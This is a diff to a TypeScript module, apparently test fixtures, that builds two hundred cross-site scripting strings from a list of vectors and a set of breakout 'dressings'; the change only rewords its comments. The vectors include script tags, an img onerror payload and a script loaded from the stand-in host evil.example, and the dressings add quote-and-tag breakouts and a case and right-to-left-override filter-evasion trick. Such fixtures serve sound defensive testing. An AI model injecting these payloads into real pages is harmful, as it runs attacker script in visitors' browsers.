@@ -1,4 +1,4 @@
-/** What has run as a script somewhere when somebody showed a text as if it were markup. */
+/** Known cross-site scripting vectors: texts that ran as scripts where a program showed them as markup. */
 const vectors = [
   '<script>alert(1)</script>',
   '<script src=//evil.example/x.js></script>',
@@ -52,7 +52,7 @@ const vectors = [
   '<img src=`x`onerror=alert(1)>',
 ]
 
-/** The ways out of where such a text is likely to be put. */
+/** Prefixes and suffixes that break out of the places where such a text is likely to be put. */
 const dressings: ((vector: string) => string)[] = [
   (vector) => vector,
   (vector) => `"'>${vector}`,
@@ -60,5 +60,5 @@ const dressings: ((vector: string) => string)[] = [
   (vector) => `${vector.replace(/^<(\w+)/, (_, tag: string) => `<${tag.toUpperCase()}/x`)} \u202e`,
 ]
 
-/** Two hundred of them, no two alike. */
+/** Two hundred different texts. */
 export const hostileTexts: readonly string[] = dressings.flatMap((dress) => vectors.map(dress))
